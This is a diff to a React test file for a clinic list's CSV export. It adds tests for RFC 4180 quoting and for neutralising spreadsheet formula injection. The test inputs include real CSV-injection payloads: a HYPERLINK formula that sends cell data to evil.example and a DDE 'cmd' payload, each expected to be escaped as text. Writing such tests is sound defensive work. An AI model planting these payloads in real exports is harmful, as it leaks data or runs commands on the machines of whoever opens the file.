@@ -2,7 +2,7 @@ import { act, render } from '@testing-library/react';
 import createWrapper from '@cloudscape-design/components/test-utils/dom';
 import { DataList, type DataListProps } from '@web/src/components/list/data-list';
 import { toCsv, type ListColumn } from '@web/src/components/list/list-logic';
-import { catchDownloads } from '@test/web/support/downloads';
+import { catchDownloads, csvRows } from '@test/web/support/downloads';
 
 interface Clinic {
   id: string;
@@ -145,8 +145,8 @@ describe('the list', () => {
     act(() => createWrapper(document.body).findButton('[data-testid="export-csv"]')!.click());
     expect(downloads.names).toEqual(['clinics.csv']);
     const text = await downloads.text(0);
-    expect(text.split('\r\n')[0]).toBe('Clinic Name,Activated Devices,Last exchange time');
-    expect(text.split('\r\n')[1]).toBe('Clinic North,1,01/01/24');
+    expect(csvRows(text)[0]).toBe('Clinic Name,Activated Devices,Last exchange time');
+    expect(csvRows(text)[1]).toBe('Clinic North,1,01/01/24');
   });
 
   it('offers the server’s further pages', () => {
@@ -159,6 +159,32 @@ describe('the list', () => {
 
 describe('CSV text', () => {
   it('keeps line breaks out of the cells', () => {
-    expect(toCsv(columns, [clinic(1, { name: 'two\nlines' })]).split('\r\n')[1]).toBe('two lines,1,01/01/24');
+    expect(csvRows(toCsv(columns, [clinic(1, { name: 'two\nlines' })]))[1]).toBe('two lines,1,01/01/24');
+  });
+
+  it('quotes every cell as RFC 4180 says, doubling inner quotes, with CRLF between records', () => {
+    expect(toCsv(columns, [clinic(1, { name: 'The "North" clinic' })])).toBe(
+      '"Clinic Name","Activated Devices","Last exchange time"\r\n"The ""North"" clinic","1","01/01/24"',
+    );
+  });
+
+  // Names a spreadsheet would run (OWASP 'CSV Injection'): a director's export must show them as text.
+  it.each([
+    ['=HYPERLINK("http://evil.example/?"&A1,"Open")', `'=HYPERLINK("http://evil.example/?"&A1"Open")`],
+    ['+SUM(1+1)', `'+SUM(1+1)`],
+    [`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`],
+    ['@SUM(A1:A2)', `'@SUM(A1:A2)`],
+    ['\t=1+1', `'\t=1+1`],
+    ['\r=1+1', `' =1+1`],
+    [',=1+1', `'=1+1`],
+  ])('writes the name %j as the text %j', (name, shown) => {
+    const csv = toCsv(columns, [clinic(1, { name })]);
+    expect(csvRows(csv)[1]).toBe(`${shown},1,01/01/24`);
+    expect(csv.split('\r\n')[1]!.startsWith(`"'`)).toBe(true);
+  });
+
+  it('keeps a negative number a number, and text that only looks like one is still text', () => {
+    const ufColumns: ListColumn<{ uf: number | string }>[] = [{ id: 'uf', header: 'UF', value: (row) => row.uf, type: 'number' }];
+    expect(toCsv(ufColumns, [{ uf: -3.2 }, { uf: '-3+A1' }])).toBe(`"UF"\r\n"-3.2"\r\n"'-3+A1"`);
   });
 });
